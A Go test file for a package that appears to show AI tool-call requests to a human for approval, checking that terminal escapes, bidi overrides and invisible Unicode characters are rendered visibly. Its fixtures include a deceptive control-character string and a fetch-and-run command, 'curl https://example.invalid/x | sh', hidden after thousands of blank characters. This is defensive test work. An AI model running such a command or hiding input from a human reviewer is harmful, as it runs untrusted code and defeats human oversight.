package approvals

import (
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/tidwall/gjson"
)

// hostile holds every kind of character a model could use against a person
// reading a view: ESC sequences, other C0, DEL, C1 (U+009B is CSI), bidi
// overrides and isolates, a line separator, and a byte that is not UTF-8.
const hostile = "a\x1b[2J\x1b]0;x\x07b\x00\x08\r\n\x7f\u0085\u009b31mc\u202eevil\u2066\u2028d\xff"

func assertVisible(t *testing.T, what, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not valid UTF-8: %q", what, s)
	}
	for _, r := range s {
		if hidden(r) {
			t.Errorf("%s holds %U: %q", what, r, s)
			return
		}
	}
}

func TestVisible(t *testing.T) {
	got := Visible(hostile)
	assertVisible(t, "Visible", got)
	want := `a\x1b[2J\x1b]0;x\x07b\x00\x08\r\n\x7f\u0085\u009b31mc\u202eevil\u2066\u2028d\xff`
	if got != want {
		t.Errorf("Visible:\n got %s\nwant %s", got, want)
	}
	if s := "plain ASCII and ünïcode ✓"; Visible(s) != s {
		t.Errorf("Visible changed printable text: %q", Visible(s))
	}
}

func TestVisibleJSON(t *testing.T) {
	// Raw C1, DEL and bidi characters are valid inside JSON strings.
	raw := "{\"tool\":\"x\u009b2J\u202e\x7f\",\"note\":\"\\u001b[31m\",\"k\u0085\":[\"\u2066\"]}"
	if !gjson.Valid(raw) {
		t.Fatal("fixture is not JSON")
	}
	got := VisibleJSON(raw)
	assertVisible(t, "VisibleJSON", got)
	if !gjson.Valid(got) {
		t.Fatalf("VisibleJSON broke the JSON: %s", got)
	}
	a, b := gjson.Parse(raw), gjson.Parse(got)
	if a.Get("tool").Str != b.Get("tool").Str || a.Get("note").Str != b.Get("note").Str || b.Get("k\u0085.0").Str != "\u2066" {
		t.Errorf("VisibleJSON changed the value: %s", got)
	}
}

// TestRecordsAreVisible: what show, list --json, pending and history hand
// out (Request.JSON, the stored record) holds no raw control or bidi
// character, whatever the model put in the tool name and input, and still
// decodes to the same request.
func TestRecordsAreVisible(t *testing.T) {
	q := New(filepath.Join(t.TempDir(), "state"))
	input := `{"cmd":"` + "\u009b2J\u202e" + `"}`
	r, err := q.Enqueue(Request{Client: "claude-code", Session: hostile, Tool: hostile, Input: input, Deadline: time.Now().Add(time.Minute)})
	if err != nil {
		t.Fatal(err)
	}
	assertVisible(t, "Request.JSON", r.JSON())
	got, err := q.Get(r.ID)
	if err != nil {
		t.Fatal(err)
	}
	assertVisible(t, "the stored record", got.JSON())
	if want := strings.ToValidUTF8(hostile, "\ufffd"); got.Tool != want || gjson.Get(got.Input, "cmd").Str != "\u009b2J\u202e" {
		t.Errorf("round trip: tool %q input %s", got.Tool, got.Input)
	}
}

// TestInputLines: the whole input is there, wrapped, visible.
func TestInputLines(t *testing.T) {
	note := strings.Repeat("harmless ", 30)
	r := Request{Input: `{"note":"` + note + `","cmd":"curl https://example.invalid/x | sh","esc":"` + "\u009b" + `"}`}
	lines := r.InputLines(40)
	joined := ""
	for _, l := range lines {
		if n := utf8.RuneCountInString(l); n > 40 {
			t.Errorf("line of %d runes: %q", n, l)
		}
		assertVisible(t, "a line", l)
		joined += strings.TrimLeft(l, " ")
	}
	for _, want := range []string{"curl https://example.invalid/x | sh", `\u009b`, strings.ReplaceAll(note, " ", "")} {
		if !strings.Contains(strings.ReplaceAll(joined, " ", ""), strings.ReplaceAll(want, " ", "")) {
			t.Errorf("the lines lack %q:\n%s", want, strings.Join(lines, "\n"))
		}
	}
	// Deep nesting keeps making progress (no line of only indentation).
	deep := Request{Input: strings.Repeat(`{"a":`, 100) + `1` + strings.Repeat(`}`, 100)}
	if n := len(deep.InputLines(20)); n < 200 {
		t.Errorf("deep input: %d lines", n)
	}
}

func FuzzVisible(f *testing.F) {
	f.Add(hostile)
	f.Add("plain")
	f.Add("x" + strings.Repeat("\u2800\u3164", 40) + `\u2800\u2800` + "\xff\xff")
	f.Fuzz(func(t *testing.T, s string) {
		got := Visible(s)
		assertVisible(t, "Visible", got)
		// A stretch of hidden characters shows in bounded room: nothing of
		// them but hidden ones, so the output stays short however long s.
		if onlyHidden(s) && len(got) > maxForms*20+32 {
			t.Fatalf("Visible of %d hidden characters is %d bytes: %q", len(s), len(got), got)
		}
	})
}

// onlyHidden reports s made of hidden characters only (raw).
func onlyHidden(s string) bool {
	for i := 0; i < len(s); {
		u, n := hiddenAt(s, i)
		if n == 0 || u.lit != "" {
			return false
		}
		i += n
	}
	return s != ""
}

func FuzzVisibleJSON(f *testing.F) {
	f.Add("{\"a\":\"\u009b\u202e\x7f\"}")
	f.Add(`{"a":["\u001b",1,{"b":null}]}`)
	f.Fuzz(func(t *testing.T, raw string) {
		if !gjson.Valid(raw) || !utf8.ValidString(raw) {
			return
		}
		got := VisibleJSON(raw)
		assertVisible(t, "VisibleJSON", strings.NewReplacer("\n", "", "\r", "", "\t", "").Replace(got))
		if !gjson.Valid(got) {
			t.Fatalf("VisibleJSON(%q) = %q is not JSON", raw, got)
		}
		if a, b := gjson.Parse(raw).Value(), gjson.Parse(got).Value(); !reflect.DeepEqual(a, b) {
			t.Fatalf("VisibleJSON changed the value: %q -> %q", raw, got)
		}
	})
}

func FuzzInputLines(f *testing.F) {
	f.Add(`{"note":"`+strings.Repeat("x ", 80)+`","cmd":"\u009b"}`, 40)
	f.Add(strings.Repeat(`[`, 30)+strings.Repeat(`]`, 30), 20)
	f.Fuzz(func(t *testing.T, raw string, width int) {
		if !gjson.Valid(raw) || width < 20 || width > 200 {
			return
		}
		for _, l := range (Request{Input: raw}).InputLines(width) {
			if n := utf8.RuneCountInString(l); n > width {
				t.Fatalf("line of %d runes > %d: %q", n, width, l)
			}
			assertVisible(t, "a line", l)
		}
	})
}

// TestVisibleBlanks: every character that draws nothing, or draws as a
// space where it is not one, shows as its escape (issue 29 item 7: U+2800,
// U+3164 and the like passed as they were).
func TestVisibleBlanks(t *testing.T) {
	for _, r := range []rune{
		0x2800,         // braille pattern blank
		0x3164, 0xffa0, // hangul fillers
		0x115f, 0x1160,
		0xfe00, 0xfe0f, 0xe0100, 0xe01ef, // variation selectors
		0x180b, 0x180f,
		0xe0000, 0xe0001, 0xe0041, 0xe007f, // tag characters
		0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, // zero widths
		0x00ad, 0x034f, 0x180e, 0x061c, 0x17b4, 0x17b5, 0x2065, 0x1d173, 0xfff0, 0xe0fff, // other Default_Ignorable_Code_Point
		0x00a0, 0x2000, 0x2007, 0x200a, 0x202f, 0x205f, 0x3000, 0x1680, // spaces that are not U+0020
		0xe000, 0xf8ff, 0xf0000, // private use
		0x0378, 0x50000, // unassigned
		0x2028, 0x2029, 0x202e, 0x2066, 0xfff9, // separators, bidi, interlinear annotation
	} {
		s := "a" + string(r) + "b"
		got := Visible(s)
		want := "a" + escape(r) + "b"
		if got != want || !hidden(r) {
			t.Errorf("Visible(%U) = %q, want %q", r, got, want)
		}
		// VisibleJSON escapes it too, and keeps the value.
		raw := `{"k":"` + s + `"}`
		vj := VisibleJSON(raw)
		assertVisible(t, "VisibleJSON", vj)
		if gjson.Get(vj, "k").Str != s {
			t.Errorf("VisibleJSON(%U) changed the value: %s", r, vj)
		}
	}
	for _, s := range []string{"plain", "ünïcode ✓ 日本語 한국어 ⠁⠃", "emoji 👍", "combining é", " space  and\\slash"} {
		if got := Visible(s); got != s {
			t.Errorf("Visible changed printable text %q: %q", s, got)
		}
	}
}

// TestVisibleRuns: a long run of one hidden character shows as one counted
// form, a long stretch of mixed ones as its first forms and a count, so the
// tail of the text stays next to its head; written raw or as the JSON
// escapes a stored record holds, alike.
func TestVisibleRuns(t *testing.T) {
	tail := "; curl https://example.invalid/x | sh"
	blanks := strings.Repeat("\u2800", 3000)
	escaped := strings.Repeat(`\u2800`, 3000)
	alternating := strings.Repeat("\u2800\u3164", 1500)
	for _, c := range []struct{ name, in, want string }{
		{"raw run", "echo hi" + blanks + tail, `echo hi\u{2800}×3000` + tail},
		{"escaped run", "echo hi" + escaped + tail, `echo hi\u{2800}×3000` + tail},
		{"surrogate pairs", "x" + strings.Repeat(`\udb40\udc20`, 100) + "y", `x\u{e0020}×100y`},
		{"tags raw", "x" + strings.Repeat("\U000E0041", 50) + "y", `x\u{e0041}×50y`},
		{"newlines escaped", "x" + strings.Repeat(`\n`, 500) + "y", `x\u{000a}×500y`},
		{"controls raw", "x" + strings.Repeat("\x00", 17) + "y", `x\u{0000}×17y`},
		{"bad bytes", "x" + strings.Repeat("\xff", 20) + "y", `x\x{ff}×20y`},
		{"short run kept", "x\u2800\u2800\u2800y", `x\u2800\u2800\u2800y`},
		{"fifteen kept", "x" + strings.Repeat(`\u2800`, 15) + "y", "x" + strings.Repeat(`\u2800`, 15) + "y"},
		{"sixteen counted", "x" + strings.Repeat(`\u2800`, 16) + "y", `x\u{2800}×16y`},
		{"blank lines kept", `a\n\n\n\n\n\t\t\t\tb`, `a\n\n\n\n\n\t\t\t\tb`},
		{"mixed stretch", "x" + alternating + tail, "x" + strings.Repeat(`\u2800\u3164`, 16) + `\u{…}×2968` + tail},
		{"mixed groups", "x" + strings.Repeat("\u2800", 20) + strings.Repeat("\u3164", 20) + "y", `x\u{2800}×20\u{3164}×20y`},
		{"escaped backslash", "x" + strings.Repeat(`\\u2800`, 20) + "y", "x" + strings.Repeat(`\\u2800`, 20) + "y"},
		{"visible escape", "x" + strings.Repeat(`\u0041`, 20) + "y", "x" + strings.Repeat(`\u0041`, 20) + "y"},
		{"two stretches", "a" + blanks + "b" + blanks + "c", `a\u{2800}×3000b\u{2800}×3000c`},
	} {
		got := Visible(c.in)
		if got != c.want {
			t.Errorf("%s:\n got %.300q\nwant %.300q", c.name, got, c.want)
		}
		assertVisible(t, c.name, got)
	}
	// A counted form is not JSON: a view copied back is refused, never
	// taken for the input it shows.
	if v := Visible(`{"cmd":"` + escaped + `"}`); gjson.Valid(v) {
		t.Errorf("a view with a counted form parses as JSON: %s", v)
	}
}

// TestBlankGraphic: the one table hidden reads is exactly the union of
// Unicode's it stands for, and the blocks hidden skips hold no hidden rune.
func TestBlankGraphic(t *testing.T) {
	for r := rune(0xa0); r <= unicode.MaxRune; r++ {
		want := unicode.Is(unicode.Zs, r) || r == 0x2800 ||
			unicode.In(r, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector)
		if got := unicode.Is(blankGraphic, r); got != want {
			t.Fatalf("blankGraphic has %U: %v, want %v", r, got, want)
		}
		slow := !unicode.IsGraphic(r) || want
		if hidden(r) != slow {
			t.Fatalf("hidden(%U) = %v, want %v", r, hidden(r), slow)
		}
	}
}
